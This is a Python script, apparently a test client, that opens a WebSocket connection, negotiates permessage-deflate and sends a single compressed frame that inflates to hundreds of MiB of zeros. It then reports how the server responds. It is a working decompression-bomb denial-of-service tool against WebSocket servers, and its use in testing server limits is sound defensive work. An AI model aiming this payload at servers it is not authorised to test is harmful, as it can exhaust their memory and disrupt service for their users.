#!/usr/bin/python3
"""A raw-socket client that sends a permessage-deflate bomb: it offers permessage-deflate, and once the
server accepted it, sends one masked text frame with RSV1 whose payload inflates to --inflated-mib MiB of
zeros (about a thousand times its own size). Prints "ACCEPTED <extensions>", "SENT <wire bytes>" and then
"CLOSED <code>" for the server's Close frame (or "EOF" when the connection ends without one).
Usage: deflate_bomb_client.py HOST PORT [--inflated-mib N]. Bounded: it gives up after 20 s."""
import argparse
import base64
import os
import socket
import struct
import zlib


def bomb(mib):
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    out = [deflater.compress(chunk) for _ in range(mib)]
    out.append(deflater.flush(zlib.Z_SYNC_FLUSH))
    data = b"".join(out)
    assert data.endswith(b"\x00\x00\xff\xff")
    return data[:-4]  # RFC 7692 section 7.2.1: the sender strips the tail


def frame(payload):
    mask = os.urandom(4)
    n = len(payload)
    head = bytes([0x80 | 0x40 | 0x1])  # FIN, RSV1, text
    if n < 126:
        head += bytes([0x80 | n])
    elif n < 65536:
        head += bytes([0x80 | 126]) + struct.pack("!H", n)
    else:
        head += bytes([0x80 | 127]) + struct.pack("!Q", n)
    masked = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    return head + mask + masked


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--inflated-mib", type=int, default=512)
    args = parser.parse_args()
    payload = bomb(args.inflated_mib)
    sock = socket.create_connection((args.host, args.port), timeout=20)
    key = base64.b64encode(os.urandom(16)).decode()
    sock.sendall((f"GET / HTTP/1.1\r\nHost: {args.host}:{args.port}\r\nUpgrade: websocket\r\n"
                  f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
                  "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n").encode())
    head = b""
    while b"\r\n\r\n" not in head:
        more = sock.recv(4096)
        if not more:
            print("EOF", flush=True)
            return
        head += more
    response, _, rest = head.partition(b"\r\n\r\n")
    extensions = [line.split(b":", 1)[1].strip().decode() for line in response.split(b"\r\n")
                  if line.lower().startswith(b"sec-websocket-extensions:")]
    print("ACCEPTED", extensions[0] if extensions else "-", flush=True)
    sock.sendall(frame(payload))
    print("SENT", len(payload), flush=True)
    data = rest
    while len(data) < 4:
        more = sock.recv(4096)
        if not more:
            print("EOF", flush=True)
            return
        data += more
    if data[0] & 0x0F == 0x8 and (data[1] & 0x7F) >= 2:
        print("CLOSED", struct.unpack("!H", data[2:4])[0], flush=True)
    else:
        print("FRAME", data[:2].hex(), flush=True)


if __name__ == "__main__":
    main()
